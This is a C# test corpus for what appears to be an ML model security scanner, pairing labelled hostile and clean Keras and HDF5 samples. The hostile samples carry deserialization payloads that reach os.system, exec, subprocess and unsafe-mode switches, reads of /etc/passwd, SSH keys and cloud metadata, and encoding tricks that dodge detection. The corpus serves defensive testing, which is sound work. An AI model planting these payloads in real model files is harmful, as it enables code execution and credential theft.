using System.Text;
using MlSecPol.Engine.Tests.Artifacts;
using MlSecPol.Engine.Tests.Models;
using MlSecPol.Engine.Tests.Models.Hdf5;
using static MlSecPol.Engine.Tests.Models.Keras.KerasSamples;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>Labelled Keras models and HDF5 files.</summary>
internal static class KerasCases
{
    private static readonly string[] Fields =
    [
        "activation", "kernel_initializer", "bias_initializer", "kernel_regularizer", "activity_regularizer", "kernel_constraint", "recurrent_activation", "layer", "cell", "forward_layer",
    ];

    public static IEnumerable<CorpusCase> All() => [.. Hostile(), .. Clean()];

    private static IEnumerable<CorpusCase> Hostile()
    {
        foreach (var (name, config) in HostileConfigurations()) yield return new CorpusCase(name, "model.keras", Archive(config), IsHostile: true);
        foreach (var (name, content) in HostileFiles()) yield return new CorpusCase(name, name.Contains("keras", StringComparison.Ordinal) ? "model.keras" : "model.h5", content, IsHostile: true);
    }

    private static IEnumerable<CorpusCase> Clean()
    {
        foreach (var (name, config) in CleanConfigurations()) yield return new CorpusCase(name, "model.keras", Archive(config), IsHostile: false);
        foreach (var (name, content) in CleanFiles()) yield return new CorpusCase(name, name.Contains("keras", StringComparison.Ordinal) ? "model.keras" : "model.h5", content, IsHostile: false);
    }

    private static IEnumerable<(string Name, string Config)> HostileConfigurations()
    {
        yield return ("lambda with byte code", Model(Lambda(LambdaCode)));
        yield return ("lambda in the list form of Keras 2", Model(Lambda($"""["{Code}", null, null]""")));
        yield return ("method of a class of the system", Model(Layer("ClassMethod", """{"name": "c", "cls_symbol": "os.path.os", "method_name": "system"}""")));
        yield return ("method of a class by package and name", Model(Layer("ClassMethod", """{"name": "c", "cls_ref": {"package": "os", "name": "system"}, "method_name": "x"}""")));
        yield return ("inner method of what a layer is given", Model(Layer("InstanceMethod", """{"name": "c", "method_name": "__reduce__"}""")));
        yield return ("inner attribute of what a layer is given", Model(Layer("InstanceProperty", """{"name": "c", "attr_name": "__class__"}""")));
        yield return ("lambda with source text", Model(Lambda("\"lambda x: __import__('os').getcwd()\"")));
        yield return ("byte code as the output shape of a lambda", Model(Layer("Lambda", $$"""{"name": "s", "function": {{Function("\"keras.ops\"", "relu")}}, "output_shape": {{LambdaCode}}}""")));
        yield return ("byte code as an activation", Model(Layer("Dense", $$"""{"name": "d", "units": 1, "activation": {{LambdaCode}}}""")));
        yield return ("byte code in a field without a name", Model(Layer("Dense", $$"""{"name": "d", "units": 1, "anything": ["{{Code}}"]}""")));
        yield return ("function through a module of Keras", Model(Lambda(Function("\"keras.src.utils.file_utils.os\"", "system"))));
        yield return ("function of TensorFlow through a module of Keras", Model(Lambda(Function("\"keras.src.backend.tensorflow.core.tf\"", "py_function"))));
        yield return ("switch of Keras' own machinery", Model(Lambda(Function("\"keras.src.backend.common.global_state\"", "set_global_attribute"))));
        yield return ("method of a class that fetches", Model(Lambda(Function("\"keras_hub.models\"", "Backbone.from_preset"))));
        yield return ("class registered under a package of Python", Model(Layer("system", "{}", "null", "\"os>system\"")));
        yield return ("module in wide letters", Model(Layer("system", "{}", "\"\uFF4F\uFF53\"")));
        yield return ("package with a letter of another alphabet", Model(Layer("Dense", """{"name": "d", "units": 1}""", "\"k\u0435ras.layers\"")));
        yield return ("module that ends in a NUL", Model(Layer("system", "{}", "\"os\\u0000\"")));
        yield return ("activation named eval", Model(Layer("Dense", """{"name": "d", "units": 1, "activation": "eval"}""")));
        yield return ("regularizer named by a package of Python", Model(Layer("Dense", """{"name": "d", "units": 1, "kernel_regularizer": "builtins>exec"}""")));
        yield return ("PyTorch module in an object that stands for bytes", Model(Layer("TorchModuleWrapper", $$"""{"name": "t", "module": {"class_name": "__bytes__", "config": {"value": "{{Convert.ToBase64String(Samples.Hostile)}}"} } }""")));
        yield return ("layer of a hub at an address", Model(Layer("KerasLayer", """{"name": "k", "handle": "https://models.example/m.tar.gz"}""", "\"tensorflow_hub.keras_layer\"")));
        yield return ("weights by inverse frequency from a path", Model(Layer("StringLookup", """{"name": "s", "vocabulary": ["a"], "idf_weights": "/etc/passwd"}""")));
        yield return ("operation of TensorFlow under an older name", Model("""{"class_name": "TFOpLambda", "config": {"name": "x", "function": "compat.v1.gfile.Copy"}, "name": "x", "inbound_nodes": []}"""));
        yield return ("operation of TensorFlow as a class method", Model("""{"class_name": "ClassMethod", "config": {"cls_ref": "tf.io.gfile.GFile", "method_name": "read"}, "name": "x", "inbound_nodes": []}"""));
        yield return ("raw operation of the registry", Model("""{"class_name": "TFOpLambda", "config": {"name": "x", "function": "raw_ops.SqlDataset"}, "name": "x", "inbound_nodes": []}"""));
        yield return ("node of a graph as JSON in a text", Model("""{"class_name": "TensorFlowOpLayer", "config": {"name": "x", "node_def": "{\"name\": \"x\", \"op\": \"EagerPyFunc\"}"}, "name": "x"}"""));
        yield return ("getter of attributes from Python's library", Model(Layer("attrgetter", """{"x": "system"}""", "\"operator\"")));
        yield return ("lambda of a function of os", Model(Lambda(Function("\"os\"", "system", "\"system\""))));
        yield return ("lambda of eval", Model(Lambda(Function("\"builtins\"", "eval"))));
        yield return ("class of another module", Model(Layer("Popen", """{"name": "p", "args": ["id"]}""", "\"subprocess\"")));
        yield return ("class of a submodule", Model(Layer("_start", "{}", "\"asyncio.unix_events._UnixSubprocessTransport\"")));
        yield return ("module of Python's library with a harmless face", Model(Layer("getpreferredencoding", "{}", "\"locale\"")));
        yield return ("the model itself is of another module", """{"module": "builtins", "class_name": "exec", "config": {"x": 1}, "registered_name": null}""");
        yield return ("registered name that is an import", Model(Layer("Dense", """{"name": "d", "units": 1}""", registered: "\"os.system\"")));
        yield return ("class name that is a path", Model(Layer("os.system", """{"name": "d"}""", "null")));
        yield return ("get_file as a class", Model(Layer("get_file", """{"fname": "x", "origin": "http://a.example/x", "cache_dir": "/tmp"}""", "\"keras.utils\"")));
        yield return ("get_file where it is defined", Model(Lambda(Function("\"keras.src.utils.file_utils\"", "get_file"))));
        yield return ("unsafe switch by configuration", Model(Layer("enable_unsafe_deserialization", "{}", "\"keras.config\"")));
        yield return ("unsafe switch where it is defined", Model(Lambda(Function("\"keras.src.saving.serialization_lib\"", "enable_unsafe_deserialization"))));
        yield return ("load_model as a layer", Model(Layer("load_model", """{"filepath": "/tmp/x.keras", "safe_mode": false}""", "\"keras.models\"")));
        yield return ("deserialiser as a function", Model(Lambda(Function("\"keras.saving\"", "deserialize_keras_object"))));
        yield return ("safe mode switched off", Model(Dense(more: ", \"safe_mode\": false")));
        yield return ("PyTorch module", Model(Layer("TorchModuleWrapper", $$"""{"name": "t", "module": "{{Convert.ToBase64String(Samples.Hostile)}}"}""", "\"keras.src.utils.torch_utils\"")));
        yield return ("SavedModel layer", Model(Layer("TFSMLayer", """{"name": "t", "filepath": "/srv/models/other", "call_endpoint": "serve"}""")));
        yield return ("vocabulary by path", Model(Layer("StringLookup", """{"name": "s", "vocabulary": "/etc/passwd", "num_oov_indices": 1}""")));
        yield return ("vocabulary by address", Model(Layer("TextVectorization", """{"name": "s", "vocabulary": "http://169.254.169.254/latest/meta-data", "standardize": "lower"}""")));
        yield return ("vocabulary by relative path", Model(Layer("IntegerLookup", """{"name": "s", "vocabulary": "../../secret.txt"}""")));
        yield return ("standardizer from os", Model(Layer("TextVectorization", $$"""{"name": "s", "vocabulary": null, "standardize": {{Function("\"os\"", "system")}}}""")));
        yield return ("standardizer by dotted name", Model(Layer("TextVectorization", """{"name": "s", "standardize": "os.system"}""")));
        yield return ("expression as an activation", Model(Layer("Dense", """{"name": "d", "units": 1, "activation": "__import__('os').system('id')"}""")));
        yield return ("loss from another module", Model(Dense()).Replace("\"loss\": \"mse\"", "\"loss\": " + Function("\"runpy\"", "run_path"), StringComparison.Ordinal));
        yield return ("metric in a list from another module", Model(Dense()).Replace("[\"accuracy\"]", $"[\"accuracy\", [{Function("\"importlib\"", "import_module")}]]", StringComparison.Ordinal));
        yield return ("optimizer from another module", Model(Dense()).Replace("\"module\": \"keras.optimizers\", \"class_name\": \"Adam\"", "\"module\": \"shutil\", \"class_name\": \"rmtree\"", StringComparison.Ordinal));
        yield return ("object in the build configuration", Model(Dense()).Replace("{\"input_shape\": [null, 8]}", $$"""{"input_shape": {{Function("\"os\"", "popen")}}}""", StringComparison.Ordinal));
        yield return ("custom object registration", Model(Dense(), $$""", "custom_objects": {"f": "os.system"}"""));
        yield return ("key twice, the first one plain", Model("""{"module": "keras.layers", "class_name": "Dense", "class_name": "Lambda", "config": {"name": "d"}, "registered_name": null}"""));
        yield return ("key twice, spelled with an escape", Model("""{"module": "keras.layers", "mod\u0075le": "os", "class_name": "system", "config": {"name": "d"}}"""));
        yield return ("module spelled with escapes", Model(Layer("system", "{}", "\"\\u006fs\"")));
        yield return ("weights by path", Model(Layer("Dense", """{"name": "d", "weights": "/home/user/.ssh/id_rsa"}""")));
        foreach (var field in Fields) yield return ($"foreign function in {field}", Model(Layer("Dense", $$"""{"name": "d", "units": 1, "{{field}}": {{Function("\"posix\"", "system")}}}""")));
        yield return ("foreign class deep in wrappers", Model(Layer("TimeDistributed", $$"""{"layer": {{Layer("Bidirectional", $$"""{"layer": {{Layer("RNN", $$"""{"cell": [{{Layer("Thing", "{}", "\"pty\"")}}]}""")}}}""")}}}""")));
        yield return ("type specification of another module", Model(Dense(more: """, "spec": {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": null, "config": []}""")));
        yield return ("bare module in a field", Model(Dense(more: """, "extra": {"module": "subprocess", "function": "run"}""")));
        yield return ("function by module and name", Model(Layer("Dense", """{"name": "d", "units": 1, "fn_module": "subprocess", "fn_name": "run"}""")));
        yield return ("layer of Python's builtins", Model(Layer("Dense", """{"name": "d", "units": 1}""", "\"builtins\"")));
        yield return ("download by name and address", Model(Layer("Dense", """{"name": "d", "fn": "get_file", "args": ["https://a.example/payload.bin"]}""", "\"keras.utils\"")));
        yield return ("unsafe switch as a text", Model(Dense(more: """, "metadata": {"loader": "keras.config.enable_unsafe_deserialization"}""")));
        yield return ("command as a text", Model(Dense(more: """, "callback": "subprocess.Popen" """)));
        yield return ("source text in base64", Model(Lambda($"""["{Convert.ToBase64String("__import__('os').system('id')"u8)}", null, null]""")));
        yield return ("infinity before the payload", Model(Layer("ReLU", """{"name": "r", "max_value": Infinity, "threshold": -Infinity, "nan": NaN}""") + "," + Lambda(LambdaCode)));
        yield return ("broken behind the payload", Model(Lambda(LambdaCode))[..^40]);
    }

    private static IEnumerable<(string Name, byte[] Content)> HostileFiles()
    {
        var lambda = Model(Lambda(LambdaCode));
        yield return ("configuration in UTF-16 (keras)", Archive([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(lambda)]));
        yield return ("configuration in UTF-32 without a mark (keras)", Archive(Encoding.UTF32.GetBytes(lambda)));
        yield return ("configuration with a mark (keras)", Archive([0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(lambda)]));
        yield return ("configuration deflated (keras)", Archive(Encoding.UTF8.GetBytes(lambda), method: 8));
        yield return ("configuration alone (keras)", new ZipAssembler().Add("config.json", Encoding.UTF8.GetBytes(lambda)).Build());
        yield return ("configuration alone behind padding (keras)", new ZipAssembler().Add("config.json", Encoding.UTF8.GetBytes("{\"pad\": \"" + new string('x', 100_000) + "\", " + lambda.TrimStart()[1..])).Build());
        yield return ("configuration beside a pickle (keras)", new ZipAssembler().Add("config.json", Encoding.UTF8.GetBytes(lambda)).Add("metadata.json", "{}"u8.ToArray()).Add("x/data.pkl", Samples.Plain).Build());
        yield return ("configuration twice (keras)", new ZipAssembler().Add("metadata.json", "{}"u8.ToArray()).Add("config.json", Encoding.UTF8.GetBytes(Model(Dense()))).Add("config.json", Encoding.UTF8.GetBytes(lambda)).Build());
        yield return ("external link in the weights (keras)", new ZipAssembler().Add("metadata.json", "{}"u8.ToArray()).Add("config.json", Encoding.UTF8.GetBytes(Model(Dense()))).Add("model.weights.h5", new Hdf5Assembler().ExternalLink("layers", "/srv/other.h5", "/").Build()).Build());
        var oldLambda = $$"""{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": ["{{Code}}", null, null]}, "function_type": "lambda", "module": "__main__", "output_shape": null, "output_shape_type": "raw"} }""";
        yield return ("lambda of Keras 2", Hdf5(OldModel(OldDense() + "," + oldLambda)));
        yield return ("lambda of Keras 2 by function and module", Hdf5(OldModel("""{"class_name": "Lambda", "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"}}""")));
        yield return ("lambda of Keras 2 with code as text", Hdf5(OldModel($$"""{"class_name": "Lambda", "config": {"name": "l", "function": "{{Code}}", "function_type": "lambda"} }""")));
        yield return ("loss in the training configuration", Hdf5(OldModel(OldDense()), $$"""{"loss": {{Function("\"os\"", "system")}}, "optimizer_config": {"class_name": "Adam", "config": {} } }"""));
        yield return ("operation that writes", Hdf5(OldModel("""{"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"}, "inbound_nodes": []}""")));
        yield return ("raw operation that reads", Hdf5(OldModel("""{"class_name": "TFOpLambda", "config": {"name": "r", "function": "raw_ops.ReadFile"}}""")));
        yield return ("node that runs Python", Hdf5(OldModel("""{"class_name": "TensorFlowOpLayer", "config": {"name": "n", "node_def": {"name": "n", "op": "EagerPyFunc", "input": []}, "constants": {}}}""")));
        yield return ("node in text form that reads", Hdf5(OldModel("""{"class_name": "TensorFlowOpLayer", "config": {"name": "n", "node_def": "name: \"n\"\nop: \"ReadFile\"\n"}}""")));
        yield return ("external link", new Hdf5Assembler().ExternalLink("w", "../other.h5", "/w").Build());
        yield return ("external link to an address", new Hdf5Assembler().ExternalLink("w", "https://a.example/x.h5", "/w").Build());
        yield return ("external storage", new Hdf5Assembler().External("w", "/etc/passwd").Build());
        yield return ("virtual dataset", new Hdf5Assembler().Virtual("w", ".", "/etc/passwd").Build());
        yield return ("array outside of the file", new Hdf5Assembler().Array("w", 4, address: 1 << 20).Build());
        yield return ("array smaller than its shape", new Hdf5Assembler().Array("w", 1 << 20, address: 48, size: 8).Build());
        yield return ("array that fills the memory", new Hdf5Assembler().Array("w", 1L << 50, address: -1, size: 0).Build());
        yield return ("checksum that is wrong", new Hdf5Assembler().Array("w", 4).Build(breakChecksum: true));
        yield return ("pickle in an attribute", new Hdf5Assembler().Bytes("state", Samples.Hostile).Build());
        yield return ("user block with a program", [.. new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1 }, .. new byte[505], .. new Hdf5Assembler().Array("w", 4).Build()]);
        var inExtraField = new Hdf5Assembler().ExternalLink("w", "/srv/other.h5", "/w").Build();
        yield return ("second model in an extra field", new ZipAssembler().Add("config.json", Encoding.UTF8.GetBytes(Model(Dense())), extra: [.. new byte[512 - 41], .. inExtraField]).Add("metadata.json", "{}"u8.ToArray()).Build());
        yield return ("archive behind the end", [.. new Hdf5Assembler().Array("w", 4).Build(), .. new ZipAssembler().Add("a/data.pkl", Samples.Hostile).Build()]);
    }

    private static IEnumerable<(string Name, string Config)> CleanConfigurations()
    {
        yield return ("dense layers", Model(Dense("dense") + "," + Dense("dense_1")));
        yield return ("layers with dangerous names", Model(Dense("lambda") + "," + Dense("exec") + "," + Dense("os.system") + "," + Dense("__import__")));
        yield return ("model called eval", Model(Dense()).Replace("\"sequential\"", "\"eval\"", StringComparison.Ordinal));
        yield return ("functional model", Model(Dense()).Replace("\"class_name\": \"Sequential\"", "\"class_name\": \"Functional\"", StringComparison.Ordinal));
        yield return ("functional model where it is defined", Model(Dense()).Replace("{\"module\": \"keras\", \"class_name\": \"Sequential\"", "{\"module\": \"keras.src.models.functional\", \"class_name\": \"Functional\"", StringComparison.Ordinal));
        yield return ("layer where it is defined", Model(Layer("Dense", """{"name": "d", "units": 1}""", "\"keras.src.layers.core.dense\"", "\"Dense\"")));
        yield return ("tf_keras layer", Model(Layer("Dense", """{"name": "d", "units": 1}""", "\"tf_keras.src.layers.core.dense\"", "\"Dense\"")));
        yield return ("tensorflow.keras layer", Model(Layer("Dense", """{"name": "d", "units": 1}""", "\"tensorflow.keras.layers\"")));
        yield return ("keras_hub backbone", Model(Layer("BertBackbone", """{"name": "b", "vocabulary_size": 30522, "num_layers": 2}""", "\"keras_hub.src.models.bert.bert_backbone\"", "\"keras_hub>BertBackbone\"")));
        yield return ("keras_nlp tokenizer", Model(Layer("WordPieceTokenizer", """{"name": "t", "vocabulary": null, "sequence_length": 128}""", "\"keras_nlp.src.tokenizers.word_piece_tokenizer\"", "\"keras_nlp>WordPieceTokenizer\"")));
        yield return ("sentence pieces in base64", Model(Layer("SentencePieceTokenizer", """{"name": "t", "proto": "CgsKBTx1bms+FQAAAAAYAgoK/+8="}""", "\"keras_hub.src.tokenizers.sentence_piece_tokenizer\"", "\"keras_hub>SentencePieceTokenizer\"")));
        yield return ("vocabulary in the model", Model(Layer("StringLookup", """{"name": "s", "vocabulary": ["a", "/etc/passwd", "http://x", "eval(", "__import__('os')"], "oov_token": "[UNK]"}""")));
        yield return ("text vectorisation", Model(Layer("TextVectorization", """{"name": "v", "standardize": "lower_and_strip_punctuation", "split": "whitespace", "ngrams": [1, 2], "vocabulary": null, "encoding": "utf-8"}""")));
        yield return ("activation as a function of Keras", Model(Layer("Dense", $$"""{"name": "d", "units": 1, "activation": {{Function("\"keras.activations\"", "relu")}}}""")));
        yield return ("builtin function by name", Model(Layer("Activation", $$"""{"name": "d", "activation": {{Function("\"builtins\"", "softmax", "\"softmax\"")}}}""")));
        yield return ("lambda of a function of Keras", Model(Lambda(Function("\"keras.ops\"", "relu"))));
        yield return ("recurrent wrapper", Model(Layer("Bidirectional", $$"""{"name": "b", "layer": {{Layer("LSTM", """{"name": "l", "units": 4, "activation": "tanh", "recurrent_activation": "sigmoid", "recurrent_initializer": {"module": "keras.initializers", "class_name": "Orthogonal", "config": {"seed": null, "gain": 1.0}, "registered_name": null}}""")}}}""")));
        yield return ("ReLU without a bound", Model(Layer("ReLU", """{"name": "r", "max_value": Infinity, "negative_slope": -0.0, "x": NaN}""")));
        yield return ("losses and metrics as objects", Model(Dense()).Replace("\"loss\": \"mse\"", "\"loss\": " + Layer("BinaryCrossentropy", """{"name": "binary_crossentropy", "reduction": "sum_over_batch_size", "fn": "binary_crossentropy"}""", "\"keras.losses\""), StringComparison.Ordinal));
        yield return ("losses by output", Model(Dense()).Replace("\"loss\": \"mse\"", """ "loss": {"out_a": "mse", "out_b": "sparse_categorical_crossentropy"}""", StringComparison.Ordinal));
        yield return ("learning rate schedule", Model(Dense()).Replace("\"learning_rate\": 0.001", "\"learning_rate\": " + Layer("ExponentialDecay", """{"initial_learning_rate": 0.1, "decay_steps": 10}""", "\"keras.optimizers.schedules\""), StringComparison.Ordinal));
        yield return ("keras tensors and slices", Model(Dense(more: """, "inbound": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [null, 8], "dtype": "float32", "keras_history": ["input", 0, 0]}}, {"class_name": "__slice__", "config": {"start": null, "stop": 2, "step": null}}], "kwargs": {"mask": null}}]""")));
        yield return ("type specification of TensorFlow", Model(Dense(more: """, "spec": {"class_name": "__typespec__", "spec_name": "TensorSpec", "module": "tensorflow.python.framework.tensor_spec", "registered_name": null, "config": [[null, 8], "float32", "x"]}""")));
        yield return ("words about dangers", Model(Dense(more: """, "notes": "mentions enable_unsafe_deserialization and os.system for awareness only", "source": "code.example.com", "split_file": "test.csv" """)));
        yield return ("download address in the metadata", Model(Dense(more: """, "metadata": {"download_url": "https://a.example/model-info"}""")));
        yield return ("description with an address", Model(Dense(more: ", \"description\": \"see https://a.example/paper and run os.system\"")));
        yield return ("pretrained weights by name", Model(Layer("Dense", """{"name": "d", "units": 1, "weights": "imagenet"}""")));
        yield return ("names in other scripts", Model(Dense("schicht_ü") + "," + Dense("слой") + "," + Dense("\\u5c42\\ud800")));
        yield return ("function of NumPy", Model(Lambda(Function("\"numpy\"", "tanh", "\"tanh\""))));
    }

    private static IEnumerable<(string Name, byte[] Content)> CleanFiles()
    {
        yield return ("model of Keras 2", Hdf5(OldModel(OldDense("lambda") + "," + OldDense("exec", "softmax")), """{"loss": "mse", "metrics": ["accuracy"], "weighted_metrics": null, "loss_weights": null, "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}}}"""));
        yield return ("old optimizer and nested metrics", Hdf5(OldModel(OldDense()), """{"loss": {"a": "mse"}, "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "accuracy", "dtype": "float32", "fn": "binary_accuracy"}}], ["acc"]], "optimizer_config": {"class_name": "RMSprop", "config": {"learning_rate": {"class_name": "ExponentialDecay", "config": {}}}}}"""));
        yield return ("lambda loss by its name", Hdf5(OldModel(OldDense()), """{"loss": "<lambda>", "optimizer_config": {"class_name": "SGD", "config": {}}}"""));
        yield return ("null modules", Hdf5(OldModel("""{"module": null, "class_name": "Dense", "config": {"name": "d", "units": 1}, "registered_name": null}""")));
        yield return ("list as the configuration", Hdf5("""{"class_name": "Sequential", "config": [{"class_name": "Dense", "config": {"name": "d", "batch_input_shape": [null, 3]}}]}"""));
        yield return ("operation that computes", Hdf5(OldModel("""{"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "function": "math.multiply"}}, {"class_name": "SlicingOpLambda", "config": {"name": "tf.__operators__.getitem", "function": "__operators__.getitem"}}""")));
        yield return ("node that computes", Hdf5(OldModel("""{"class_name": "TensorFlowOpLayer", "config": {"name": "n", "node_def": {"name": "ReadFile", "op": "Mul"}}}""")));
        yield return ("weights only", Weights);
        yield return ("soft link", new Hdf5Assembler().Array("w", 4).SoftLink("same", "/w").Build());
        yield return ("virtual dataset of this file", new Hdf5Assembler().Array("d", 4).Virtual("w", ".", ".").Build());
        yield return ("array without data", new Hdf5Assembler().Array("w", 1000, address: -1, size: 4000).Build());
        yield return ("attribute with words", new Hdf5Assembler().Text("note", "import os; os.system('id')").Text("url", "http://a.example").Array("w", 4).Build());
        yield return ("pickle of plain data in an attribute", new Hdf5Assembler().Bytes("state", Samples.Plain).Build());
        yield return ("user block with text", [.. "MATLAB 7.3 MAT-file, Platform: GLNXA64"u8, .. new byte[474], .. new Hdf5Assembler().Array("w", 4).Build()]);
        yield return ("user block of zeros", [.. new byte[1024], .. new Hdf5Assembler().Array("w", 4).Build()]);
        yield return ("configuration deflated (keras)", Archive(Encoding.UTF8.GetBytes(Model(Dense())), method: 8));
        yield return ("weights where a user block may end (keras)", new ZipAssembler().Add("config.json", Encoding.UTF8.GetBytes(Model(Dense()).PadRight(2048 - 41 - 46))).Add("model.weights.h5", Weights).Build());
        yield return ("assets (keras)", new ZipAssembler().Add("metadata.json", "{}"u8.ToArray()).Add("config.json", Encoding.UTF8.GetBytes(Model(Dense()))).Add("model.weights.h5", Weights).Add("assets/layers/text/vocabulary.txt", "a\nb\n/etc/passwd\n"u8.ToArray()).Build());
    }
}
